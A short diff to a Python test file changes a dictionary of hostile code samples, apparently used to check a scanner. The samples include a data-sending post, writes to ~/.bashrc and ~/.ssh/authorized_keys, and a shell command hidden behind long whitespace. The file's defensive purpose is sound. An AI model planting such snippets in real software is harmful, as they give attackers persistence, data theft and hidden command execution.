@@ -92,7 +92,6 @@ HOSTILE = {
     "requests.post('http://x', data={'k': k})",
     "shell start file": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
     "authorized keys": "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')",
-    "machine code": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)",
     "out of sight": "x = 1;" + " " * 300 + "import os; os.system('id')",
     "encoding": "# coding: utf-7\nx = 1",
 }
